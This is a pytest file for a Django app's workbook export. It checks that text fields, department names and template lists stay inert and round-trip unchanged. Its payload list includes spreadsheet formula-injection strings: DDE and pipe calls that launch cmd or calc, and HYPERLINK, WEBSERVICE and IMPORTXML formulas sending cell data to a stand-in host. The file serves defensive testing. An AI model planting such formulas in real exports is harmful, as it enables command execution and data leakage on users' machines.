"""Texts never act: whatever a field holds stays text, and comes back as it was."""

import re

import pytest

from ledger.models import Inspection
from measures.models import Measure
from problems.models import Problem, Task
from reports.columns import COLUMNS
from reports.workbook import export, template

from .sheets import ledger_lines, opened, parts

pytestmark = pytest.mark.django_db
LEADS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", " =", "\u200b="]
PAYLOADS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://a.example/?x="&A1,"点击")',
    'WEBSERVICE("http://a.example/")',
    'IMPORTXML(CONCAT("http://a.example/",A1),"//a")',
    'DDE("cmd";"/C calc";"1")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    "A1</t></si><f>1+1</f>",
    "]]><f>1+1</f>",
    'IFERROR(1/0,"x")',
    "2026-01-02",
    "rundll32|'URL.dll,OpenURL calc'!A",
    "{=1}",
    "&amp;&lt;f&gt;",
]
INJECTIONS = [lead + payload for lead in LEADS for payload in PAYLOADS][:200]
AWKWARD = [
    "第一行\n第二行\n\n第四行",
    "  两头有空格  ",
    "\u3000全角空格\u3000",
    "〇一二〇",
    "𠮷野家、㐂、䶮、👍🏽",
    "_x0041_ 与 _x000D_",
    "<b>&amp;\"'</b>",
    "22-3",
    "1/2",
    "0012",
    "2024年1月",
    "TRUE",
    "1e5",
    "长" * 2000,
    "制表\t符",
    "零宽\u200b字",
    "#REF!",
    "#N/A",
]
TEXTS = {
    Problem: ["text", "category", "public_text", "withholding_explanation"],
    Task: [
        "text",
        "goal",
        "acceptance",
        "effect",
        "unfinished_reason",
        "next_step",
        "deadline_text",
        "public_text",
        "withholding_explanation",
    ],
    Measure: ["text", "acceptance", "deadline_text", "public_text", "withholding_explanation"],
}


LEVELS = {Problem: "problem", Task: "task", Measure: "measure"}
# Column → how much of a text its field takes.
HOLDING = {
    column.name: model._meta.get_field(column.field).max_length
    for model, names in TEXTS.items()
    for column in COLUMNS.values()
    if column.level == LEVELS[model] and column.field in names
}
BEGIN = 10  # the first number of what is made for the test


def spread(ledger, texts):
    """Give each text a problem, a task and a measure of its own, and write it into every field."""
    for number, text in enumerate(texts, BEGIN):
        problem = ledger.problem(ledger.opinion, ledger.study, number, "x")
        task = ledger.make_task(problem, number, "x")
        measure = ledger.make_measure(task, 1, "x")
        for row in (problem, task, measure):
            fields = {name: fit(type(row), name, text) for name in TEXTS[type(row)]}
            type(row).objects.filter(pk=row.pk).update(**fields)
        ledger.tell(measure, text, 1)


def fit(model, name, text):
    """As much of a text as a field takes."""
    return text[: model._meta.get_field(name).max_length]


def check_inert(body):
    """No formula, link, DDE, macro, connection or outside address in any part."""
    found = parts(body)
    allowed = re.compile(
        r"(\[Content_Types\]|_rels/\.rels|docProps/(app|core)|xl/(workbook|styles|sharedStrings"
        r"|theme/theme1|worksheets/sheet\d+|_rels/workbook\.xml))(\.xml)?(\.rels)?"
    )
    assert [name for name in found if not allowed.fullmatch(name)] == []
    sheets = {name: text for name, text in found.items() if name.startswith("xl/worksheets/")}
    for text in sheets.values():
        assert not re.search(r"<(f|hyperlinks?|oleObjects?|legacyDrawing|extLst)[ />]", text)
        assert 't="str"' not in text and 't="inlineStr"' not in text
    assert "<externalReference" not in found["xl/workbook.xml"]
    assert "TargetMode" not in "".join(found.values())


@pytest.mark.parametrize("texts", [INJECTIONS, AWKWARD], ids=["injections", "awkward"])
def test_text_in_every_field_stays_text_and_is_the_same_when_read_back(ledger, texts):
    spread(ledger, texts)

    body = export(ledger.inspection)

    check_inert(body)
    lines = {line["number"]: line for line in ledger_lines(opened(body).worksheets[0])}
    wrong = [
        (name, text)
        for number, text in enumerate(texts, BEGIN)
        for name, length in {**HOLDING, "progress": 2000}.items()
        if lines[f"{number}-1"][name] != text[:length]
    ]
    assert wrong == []


def test_names_of_chapters_documents_departments_and_people_stay_text(ledger):
    for row, name in [
        (ledger.study, "title"),
        (ledger.opinion, "title"),
        (ledger.room, "name"),
        (ledger.lead, "post"),
        (ledger.handler, "name"),
        (ledger.organization, "name"),
    ]:
        setattr(row, name, f"=cmd|' /C calc'!A{name}")
        row.save()

    body = export(Inspection.objects.get(pk=ledger.inspection.pk))

    check_inert(body)
    line = ledger_lines(opened(body).worksheets[0])[1]
    names = [line[name] for name in ("aspect", "feedback", "department", "lead", "handler")]
    fields = ["title", "title", "name", "post", "name"]
    assert names == [f"=cmd|' /C calc'!A{name}" for name in fields]


def test_texts_that_could_act_keep_their_quote_when_edited(ledger):
    Measure.objects.filter(pk=ledger.measures[0].pk).update(text="=1+1")

    sheet = opened(export(ledger.inspection)).worksheets[0]

    first, second = sheet["I4"], sheet["I5"]
    assert (first.value, first.data_type, first.quotePrefix) == ("=1+1", "s", True)
    assert (second.value, second.quotePrefix) == ("组织学习", False)
    assert sheet["H4"].quotePrefix  # 1-1 would be the first of January


def test_character_that_xml_cannot_carry_is_shown_as_lost(ledger):
    Measure.objects.filter(pk=ledger.measures[0].pk).update(text="a\x01b\ufffec")

    sheet = opened(export(ledger.inspection)).worksheets[0]

    assert sheet["I4"].value == "a\ufffdb\ufffdc"


def test_names_of_departments_in_the_template_are_inert_too(ledger):
    for room in (ledger.room, ledger.other):
        room.name = f"=cmd|' /C calc'!A{room.pk}"
        room.save()

    found = parts(template(ledger.inspection))

    sheets = "".join(text for name, text in found.items() if "worksheets" in name)
    assert "<f>" not in sheets and "hyperlink" not in sheets
    assert re.findall(r"<formula1>(.*?)</formula1>", sheets)
    assert "cmd" not in sheets  # the lists are named by their cells, not spelt out
